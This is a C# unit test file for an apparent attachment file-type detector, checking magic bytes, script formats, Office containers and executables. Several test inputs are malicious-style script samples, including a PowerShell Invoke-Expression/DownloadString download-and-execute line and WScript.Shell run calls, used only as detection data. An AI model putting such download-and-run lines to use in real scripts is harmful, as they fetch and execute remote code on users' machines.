using System.IO.Compression;
using System.Text;
using Platform.Engine.Attachments;

namespace Platform.Engine.Tests.Attachments;

public sealed class FileTypesTests
{
    [Theory]
    [InlineData("7F454C46", "elf")]
    [InlineData("CFFAEDFE07000001", "mach-o")]
    [InlineData("CAFEBABE00000034", "class")]
    [InlineData("CAFEBABE00000002", "mach-o")]
    [InlineData("526172211A0700", "rar")]
    [InlineData("377ABCAF271C", "7z")]
    [InlineData("1F8B0800", "gz")]
    [InlineData("425A6839", "bz2")]
    [InlineData("FD377A585A00", "xz")]
    [InlineData("4D534346", "cab")]
    [InlineData("89504E470D0A1A0A", "png")]
    [InlineData("FFD8FFE0", "jpeg")]
    [InlineData("474946383961", "gif")]
    [InlineData("49492A00", "tiff")]
    [InlineData("524946460000000057454250", "webp")]
    [InlineData("000001000100", "ico")]
    [InlineData("494433", "mp3")]
    [InlineData("0000001866747970", "mp4")]
    [InlineData("4C0000000114020000000000C000000000000046", "lnk")]
    [InlineData("E4525C7B8CD8A74DAEB15378D02996D3", "onenote")]
    [InlineData("774F4646", "font")]
    [InlineData("49545346", "chm")]
    public void Signatures(string hex, string id) => Assert.Equal(id, FileTypes.Detect(Convert.FromHexString(hex)).Id);

    [Theory]
    [InlineData("%PDF-1.7\n", "pdf")]
    [InlineData("junk\n%PDF-1.7\n", "pdf")]
    [InlineData("{\\rtf1\\ansi", "rtf")]
    [InlineData("<!DOCTYPE html><html>", "html")]
    [InlineData("<!-- c --><html>", "html")]
    [InlineData("some text <script>alert(1)</script>", "html")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'></svg>", "svg")]
    [InlineData("<?xml version='1.0'?><svg></svg>", "svg")]
    [InlineData("<?xml version='1.0'?><a/>", "xml")]
    [InlineData("<html><hta:application id=x></html>", "hta")]
    [InlineData("<job><script language='JScript'>x</script></job>", "wsf")]
    [InlineData("[InternetShortcut]\r\nURL=http://x.test/", "url")]
    [InlineData("WEB\r\n1\r\nhttp://x.test/a", "iqy")]
    [InlineData("BEGIN:VCALENDAR\r\n", "ics")]
    [InlineData("BEGIN:VCARD\r\n", "vcf")]
    [InlineData("#!/bin/sh\necho x", "sh")]
    [InlineData("Received: from x\r\nFrom: a@b.test\r\nSubject: x\r\n\r\nbody", "eml")]
    [InlineData("var x = new ActiveXObject('WScript.Shell');\nx.Run('a');\nfunction f(a) { return a; }", "js")]
    [InlineData("On Error Resume Next\nDim x\nSet x = CreateObject(\"WScript.Shell\")", "vbs")]
    [InlineData("$x = New-Object Net.WebClient\nInvoke-Expression $x.DownloadString('http://x.test')", "ps1")]
    [InlineData("@echo off\r\nset a=b\r\nstart \"\" x.exe\r\n", "bat")]
    [InlineData("{\"a\": 1}", "json")]
    [InlineData("a,b,c\n1,2,3\n4,5,6\n", "csv")]
    [InlineData("-----BEGIN CERTIFICATE-----\n", "pem")]
    [InlineData("Dear all, please let me know when you return. Thanks.", "text")]
    [InlineData("これは文章です。", "text")]
    public void Text(string text, string id) => Assert.Equal(id, FileTypes.Detect(Encoding.UTF8.GetBytes(text)).Id);

    [Fact]
    public void Utf_16_text_is_text() => Assert.Equal("url", FileTypes.Detect([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("[InternetShortcut]\r\nURL=x")]).Id);

    [Theory]
    [InlineData("a.txt", "zip")]
    [InlineData("[Content_Types].xml|word/document.xml", "ooxml-word")]
    [InlineData("[Content_Types].xml|word/document.xml|word/vbaProject.bin", "ooxml-word-macro")]
    [InlineData("[Content_Types].xml|xl/workbook.xml", "ooxml-excel")]
    [InlineData("[Content_Types].xml|xl/workbook.xml|xl/macrosheets/sheet1.xml", "ooxml-excel-macro")]
    [InlineData("[Content_Types].xml|ppt/presentation.xml", "ooxml-powerpoint")]
    [InlineData("META-INF/MANIFEST.MF|A.class", "jar")]
    [InlineData("META-INF/MANIFEST.MF|AndroidManifest.xml", "apk")]
    [InlineData("content.xml|META-INF/manifest.xml", "odf")]
    public void Zip_based_formats(string names, string id) => Assert.Equal(id, FileTypes.Detect(Zip(names.Split('|'))).Id);

    [Theory]
    [InlineData(false, "exe")]
    [InlineData(true, "dll")]
    public void Portable_executables(bool library, string id)
    {
        var image = new byte[512];
        "MZ"u8.CopyTo(image);
        image[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(image.AsSpan(0x80));
        image[0x80 + 23] = (byte)(library ? 0x20 : 0);
        Assert.Equal(id, FileTypes.Detect(image).Id);
    }

    [Theory]
    [InlineData("WordDocument", "ole-word")]
    [InlineData("Workbook", "ole-excel")]
    [InlineData("EncryptedPackage", "ole-encrypted")]
    [InlineData("__properties_version1.0", "msg")]
    [InlineData("Something", "ole")]
    public void Ole_based_formats(string stream, string id) => Assert.Equal(id, FileTypes.Detect(OleFile.With(stream)).Id);

    [Fact]
    public void An_installer_is_told_by_its_class_id() => Assert.Equal("msi", FileTypes.Detect(OleFile.Installer()).Id);

    [Fact]
    public void A_tar_without_signature_is_told_by_its_checksum()
    {
        var header = new byte[1_024];
        "file.txt"u8.CopyTo(header);
        header.AsSpan(148, 8).Fill((byte)' ');
        var sum = header.Take(512).Sum(b => b);
        Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0')).CopyTo(header, 148);
        header[154] = 0;
        Assert.Equal("tar", FileTypes.Detect(header).Id);
    }

    [Theory]
    [InlineData("a.EXE", "exe")]
    [InlineData("a.tar.gz", "gz")]
    [InlineData("a.exe. ", "exe")]
    [InlineData("noext", "")]
    [InlineData(null, "")]
    public void Extension(string? name, string expected) => Assert.Equal(expected, FileTypes.Extension(name));

    [Fact]
    public void Nothing_is_unknown() => Assert.Equal("unknown", FileTypes.Detect([]).Id);

    private static byte[] Zip(IEnumerable<string> names)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var name in names)
                zip.CreateEntry(name).Open().Dispose();
        return stream.ToArray();
    }
}
